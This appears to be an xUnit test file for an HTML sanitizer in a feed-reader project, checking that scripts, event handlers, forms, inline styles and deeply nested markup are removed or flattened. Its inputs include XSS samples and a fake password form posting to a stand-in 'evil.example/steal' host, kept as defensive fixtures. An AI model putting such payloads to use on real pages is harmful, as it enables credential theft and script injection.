using FeedHub.Parsing;

namespace FeedHub.Tests.Parsing;

public sealed class HtmlCleanerTests
{
    private static readonly Uri Base = new("https://news.example.com/posts/1");
    private readonly HtmlCleaner _cleaner = new();

    [Fact]
    public void Clean_RemovesActiveContentAndResolvesUrls()
    {
        var clean = _cleaner.Clean("""<p onclick="x()">Hi <a href="../about">us</a><script>alert(1)</script><img src="a.png" onerror="x()"></p>""", Base);

        Assert.Equal("""<p>Hi <a href="https://news.example.com/about">us</a><img src="https://news.example.com/posts/a.png"></p>""", clean);
    }

    [Fact]
    public void Clean_RemovesFormsAndInlineStyles()
    {
        var clean = _cleaner.Clean(
            """<form action="https://evil.example/steal"><input type="password" name="p"><button>Log in</button></form><div style="position:fixed;top:0;color:red">Overlay</div>""",
            Base);

        Assert.DoesNotContain("<form", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("<input", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("<button", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("style", clean, StringComparison.Ordinal);
        Assert.Contains("<div>Overlay</div>", clean, StringComparison.Ordinal);
    }

    [Fact]
    public void Clean_KeepsOnlyTheTextOfHostilelyDeepMarkup()
    {
        var depth = 100_000;
        var html = string.Concat(Enumerable.Repeat("<div>", depth)) + "deep <b>text</b>" + string.Concat(Enumerable.Repeat("</div>", depth));

        var clean = _cleaner.Clean(html, Base);

        Assert.Equal("deep text", clean!.Trim().Replace("  ", " ", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("<p>a<p>b<p>c<br><br><img src=x>", 0)]
    [InlineData("<div><div><span>x</span></div></div>", 3)]
    [InlineData("<div><br/><div/></div>", 2)]
    [InlineData("<div/><div/><div/>", 3)]
    [InlineData("<div></q><div></q>", 2)]
    public void NestingDepth_CountsOnlyElementsThatNeedClosing(string html, int depth)
    {
        Assert.Equal(depth, HtmlCleaner.NestingDepth(html));
    }
}
